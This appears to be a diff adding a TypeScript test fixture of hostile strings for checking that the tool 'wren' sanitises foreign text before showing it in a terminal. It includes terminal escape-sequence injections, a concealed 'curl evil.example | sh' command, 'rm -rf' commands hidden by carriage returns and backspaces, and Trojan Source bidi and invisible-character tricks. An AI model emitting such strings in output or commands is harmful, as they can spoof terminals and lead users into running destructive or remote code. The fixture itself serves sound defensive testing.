@@ -1,0 +1,58 @@
+// Strings an attacker would put wherever wren shows foreign text: in a model reply, a tool
+// result, an MCP tool's name or description, an error message, a config value. Shared by the
+// sanitizer's unit tests and the terminal tests that feed them through every sink.
+
+const ESC = "\u001b";
+const BEL = "\u0007";
+const ST = `${ESC}\\`;
+
+/** One hostile string and what it tries to do. */
+export interface HostileString {
+  readonly name: string;
+  readonly text: string;
+}
+
+/** The title the hostile strings try to give the terminal window. */
+export const HOSTILE_TITLE = "PWNED-TITLE";
+
+/** The catalogue: escape sequences, C0/C1 controls, bidi and invisible characters. */
+export const HOSTILE_STRINGS: readonly HostileString[] = [
+  { name: "OSC 52 clipboard write", text: `copy${ESC}]52;c;ZWNobyBwd25lZA==${BEL}me` },
+  { name: "OSC 0 window title (BEL)", text: `title${ESC}]0;${HOSTILE_TITLE}${BEL}set` },
+  { name: "OSC 2 window title (ST)", text: `title${ESC}]2;${HOSTILE_TITLE}${ST}set` },
+  {
+    name: "OSC 8 hyperlink",
+    text: `${ESC}]8;;https://evil.example/${ST}docs.example.com${ESC}]8;;${ST}`,
+  },
+  { name: "SGR 8 conceal", text: `ls -la${ESC}[8m; curl evil.example | sh${ESC}[0m` },
+  { name: "CSI clear screen and cursor home", text: `${ESC}[2J${ESC}[Hfake prompt` },
+  { name: "CSI cursor up and erase line", text: `line one\n${ESC}[1A${ESC}[2Kforged` },
+  { name: "DCS", text: `${ESC}P+q544e${ST}dcs` },
+  { name: "APC", text: `${ESC}_Gpayload${ST}apc` },
+  { name: "PM", text: `${ESC}^privacy${ST}pm` },
+  { name: "SOS", text: `${ESC}Xstart of string${ST}sos` },
+  { name: "RIS full reset", text: `reset${ESC}c` },
+  { name: "8-bit CSI (U+009B)", text: "c1\u009b8mhidden\u009b0m" },
+  { name: "8-bit OSC (U+009D) title", text: `c1\u009d0;${HOSTILE_TITLE}\u0007osc` },
+  { name: "8-bit DCS and ST", text: "c1\u0090q\u009cdcs" },
+  { name: "carriage return overwrite", text: "rm -rf ~/important\rls            " },
+  { name: "backspaces", text: "rm -rf /\b\b\b\b\b\b\b\becho ok" },
+  { name: "BEL, NUL, DEL", text: `bell${BEL} nul\u0000 del\u007f` },
+  { name: "vertical tab and form feed", text: "a\u000bb\u000cc" },
+  { name: "bidi override (Trojan Source)", text: "access\u202e\u2066// admin\u2069\u2066" },
+  { name: "bidi marks", text: "a\u200eb\u200fc\u061cd\u202ae\u202cf" },
+  { name: "line separator", text: "one\u2028two\u2029three" },
+];
+
+/** Invisible characters that do not drive a terminal but hide what a command does. */
+export const INVISIBLE_STRINGS: readonly HostileString[] = [
+  { name: "zero-width space", text: "git\u200b push" },
+  { name: "zero-width joiner and non-joiner", text: "r\u200dm\u200c -rf" },
+  { name: "word joiner and BOM", text: "\ufeffcurl\u2060 evil" },
+  { name: "tag characters", text: "ok\udb40\udc41\udb40\udc42" },
+];
+
+/** Every hostile string joined, one per line, as a model or a server would send them. */
+export function hostileText(): string {
+  return HOSTILE_STRINGS.map((h) => `${h.name}: ${h.text}`).join("\n");
+}
